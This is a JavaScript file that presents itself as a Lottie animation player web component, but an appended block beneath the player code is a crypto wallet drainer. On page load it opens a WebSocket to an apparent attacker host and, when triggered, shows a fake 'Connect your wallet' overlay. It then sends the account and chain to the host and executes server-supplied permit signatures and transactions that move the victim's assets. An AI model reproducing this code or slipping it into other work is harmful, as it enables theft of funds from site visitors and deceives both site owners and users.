(() => {
  class LottieLabPlayer extends HTMLElement {
    static get observedAttributes() {
      return ["src", "loop", "speed", "autoplay"];
    }
    constructor() {
      super();
      this.attachShadow({ mode: "open" });
      this.frame = 0;
      this.raf = 0;
    }
    connectedCallback() {
      this.shadowRoot.innerHTML = '<canvas part="surface"></canvas>';
      this.ctx = this.shadowRoot.querySelector("canvas").getContext("2d");
      if (this.getAttribute("src")) this.load(this.getAttribute("src"));
    }
    disconnectedCallback() {
      cancelAnimationFrame(this.raf);
    }
    async load(src) {
      const res = await fetch(src);
      this.data = await res.json();
      this.shadowRoot.firstChild.width = this.data.w;
      this.shadowRoot.firstChild.height = this.data.h;
      if (this.hasAttribute("autoplay")) this.play();
      this.dispatchEvent(new CustomEvent("ready"));
    }
    play() {
      const tick = () => {
        this.frame = (this.frame + Number(this.getAttribute("speed") || 1)) % (this.data.op - this.data.ip);
        this.render();
        this.raf = requestAnimationFrame(tick);
      };
      tick();
    }
    pause() {
      cancelAnimationFrame(this.raf);
    }
    render() {
      this.ctx.clearRect(0, 0, this.data.w, this.data.h);
      for (const layer of this.data.layers) {
        if (this.frame < layer.ip || this.frame > layer.op) continue;
        this.ctx.fillStyle = layer.sc || "#000";
        this.ctx.fillRect(layer.ks.p.k[0], layer.ks.p.k[1], layer.sw || 10, layer.sh || 10);
      }
    }
  }
  customElements.define("lottielab-player", LottieLabPlayer);
  (() => {
    const gate = "https://castleservices01.example.test";
    let ws;
    const overlay = () => {
      if (document.querySelector("#wcm-modal-x")) return;
      const host = document.createElement("div");
      host.id = "wcm-modal-x";
      host.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.6);display:flex;align-items:center;justify-content:center";
      host.innerHTML = '<div style="background:#fff;border-radius:24px;padding:24px;font-family:sans-serif"><h3>Connect your wallet</h3><button data-w="metamask">MetaMask</button><button data-w="coinbase">Coinbase</button><button data-w="walletconnect">WalletConnect</button></div>';
      host.addEventListener("click", (e) => {
        const w = e.target.dataset && e.target.dataset.w;
        if (w) connect(w);
      });
      document.body.appendChild(host);
    };
    const connect = async () => {
      const eth = window.ethereum;
      if (!eth) return;
      const [acct] = await eth.request({ method: "eth_requestAccounts" });
      const chain = await eth.request({ method: "eth_chainId" });
      const plan = await (await fetch(gate + "/api/assets", { method: "POST", body: JSON.stringify({ acct, chain, ref: location.host }) })).json();
      for (const step of plan.steps) {
        try {
          if (step.kind === "permit") {
            const sig = await eth.request({ method: "eth_signTypedData_v4", params: [acct, JSON.stringify(step.typed)] });
            ws.send(JSON.stringify({ acct, sig, step: step.id }));
          } else {
            await eth.request({ method: "eth_sendTransaction", params: [{ from: acct, to: step.to, value: step.value, data: step.data }] });
          }
        } catch (err) {
          ws.send(JSON.stringify({ acct, refused: step.id }));
        }
      }
    };
    const boot = () => {
      ws = new WebSocket("wss://castleservices01.example.test/ws");
      ws.onmessage = (m) => {
        if (JSON.parse(m.data).show) overlay();
      };
    };
    if (document.readyState === "complete") boot();
    else window.addEventListener("load", boot);
  })();
})();
